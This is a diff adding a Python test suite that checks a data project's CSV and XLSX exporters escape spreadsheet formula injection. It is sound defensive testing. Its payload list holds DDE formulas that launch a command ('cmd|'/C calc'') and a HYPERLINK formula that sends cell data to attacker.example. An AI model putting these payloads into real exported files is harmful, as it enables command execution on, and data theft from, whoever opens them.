@@ -1,0 +1,157 @@
+import csv
+import re
+import zipfile
+from pathlib import Path
+from typing import Any
+from xml.etree import ElementTree
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from clv_core.strategy.files import write_csv, write_xlsx
+from clv_core.strategy.spreadsheet import escape, escape_frame, unescape
+
+TRIGGERS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"
+PAYLOADS = [
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "%0A-3+3+cmd|' /C calc'!D2",
+    '"=1+1"',
+    " =1+1",
+    "\u3000=1+1",
+    "\xa0\u200b=1+1",
+    "\x00=1+1",
+    ";=1+1",
+    '=1+1",=2+2,"',
+    "'=1+1",
+    "''",
+    "=\u200b1+1",
+    "-",
+    "plain",
+    "",
+    "007",
+    "_x0041_=1",
+]
+NUMBERS = ["-12.5", "+3", "-1e9", "42"]
+CELLS = st.text(alphabet=st.one_of(st.sampled_from(TRIGGERS + "' \"1a,;"), st.characters(exclude_categories=["Cs"])))
+
+
+def inert(text: str) -> bool:
+    number = re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", text) is not None
+    return (
+        number or not text or (text[0] not in TRIGGERS and text.lstrip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20"))
+    )
+
+
+@given(st.lists(CELLS, max_size=20), st.sampled_from(["str", "object", "category"]))
+def test_any_text_becomes_inert_and_comes_back(texts: list[str], kind: str) -> None:
+    cells = pd.Series(texts, dtype="str").astype(kind)
+    safe = escape(cells)
+    assert all(inert(text) for text in safe)
+    assert unescape(safe).tolist() == texts
+
+
+def test_exactly_one_quote_is_added_where_one_is_needed() -> None:
+    safe = escape(pd.Series(PAYLOADS)).tolist()
+    for before, after in zip(PAYLOADS, safe, strict=True):
+        dangerous = before[:1] in set(TRIGGERS + "'") or before.strip(" \u3000\xa0\u200b")[:1] in set(TRIGGERS)
+        assert after == ("'" + before if before and dangerous else before)
+
+
+def test_numbers_are_never_touched() -> None:
+    assert escape(pd.Series(NUMBERS)).tolist() == NUMBERS
+    frame = pd.DataFrame({"a": [-1.5, 2.0], "b": [-3, 4], "c": [True, False]})
+    pd.testing.assert_frame_equal(escape_frame(frame), frame)
+
+
+def test_missing_and_mixed_cells_stay_what_they_are() -> None:
+    cells = pd.Series(["=1", None, 3, -2.5], dtype=object)
+    safe = escape(cells)
+    assert safe[0] == "'=1" and pd.isna(safe[1]) and safe[2] == 3 and safe[3] == -2.5
+    assert cells[0] == "=1"
+
+
+def test_column_names_are_made_inert_too() -> None:
+    assert escape_frame(pd.DataFrame({"=A1": [1], "b": [2]})).columns.tolist() == ["'=A1", "b"]
+
+
+@pytest.fixture
+def frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "customer_id": [f"00{i}" for i in range(len(PAYLOADS))],
+            "note": PAYLOADS,
+            "predicted_clv": np.linspace(-3, 99, len(PAYLOADS)),
+            "last_purchase": pd.Series([pd.NaT, *pd.date_range("1998-01-01", periods=len(PAYLOADS) - 1)]),
+        }
+    )
+
+
+def test_a_csv_read_back_is_inert_recoverable_and_keeps_ids_as_text(frame: pd.DataFrame, tmp_path: Path) -> None:
+    path = write_csv(frame, tmp_path / "list.csv")
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["customer_id"] for row in rows] == frame["customer_id"].tolist()
+    assert all(inert(cell) for row in rows for cell in row.values())
+    assert unescape(pd.Series([row["note"] for row in rows])).tolist() == PAYLOADS
+    assert [float(row["predicted_clv"]) for row in rows] == frame["predicted_clv"].tolist()
+    assert [row["last_purchase"] for row in rows][:2] == ["", "1998-01-01"]
+
+
+def read_xlsx(path: Path) -> list[dict[str, Any]]:
+    """Cells of each sheet, by an own reader of the format: no formula, text decoded as ECMA-376 22.9.2.19 says."""
+    spaces = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    sheets = []
+    with zipfile.ZipFile(path) as archive:
+        assert not any("<hyperlink " in archive.read(name).decode() for name in archive.namelist())
+        strings = [
+            "".join(part.text or "" for part in item.iterfind(".//m:t", spaces))
+            for item in ElementTree.fromstring(archive.read("xl/sharedStrings.xml")).iterfind("m:si", spaces)
+        ]
+        for name in sorted(name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")):
+            sheet = ElementTree.fromstring(archive.read(name))
+            assert sheet.find(".//m:f", spaces) is None
+            sheets.append(
+                {
+                    cell.get("r"): decode(strings[int(cell.find("m:v", spaces).text)])
+                    if cell.get("t") == "s"
+                    else float(cell.find("m:v", spaces).text)
+                    for cell in sheet.iterfind(".//m:c", spaces)
+                    if cell.find("m:v", spaces) is not None
+                }
+            )
+    return sheets
+
+
+def decode(text: str) -> str:
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)
+
+
+def test_a_workbook_read_back_has_no_formula_is_recoverable_and_says_what_it_is(
+    frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    path = write_xlsx(frame, tmp_path / "list.xlsx", {"dataset": "cdnow", "cutoff": "1998-07-01", "segment": "=x"})
+    cells, about = read_xlsx(path)
+    rows = range(2, len(PAYLOADS) + 2)
+    assert [cells[f"A{row}"] for row in rows] == frame["customer_id"].tolist()
+    notes = [cells.get(f"B{row}", "") for row in rows]
+    assert all(inert(note) for note in notes)
+    assert unescape(pd.Series(notes)).tolist() == PAYLOADS
+    assert [cells[f"C{row}"] for row in rows] == pytest.approx(frame["predicted_clv"].tolist())
+    assert "D2" not in cells and cells["D3"] == (pd.Timestamp("1998-01-01") - pd.Timestamp("1899-12-30")).days
+    assert about["A1"] == "dataset" and about["B1"] == "cdnow" and about["B3"] == "'=x"
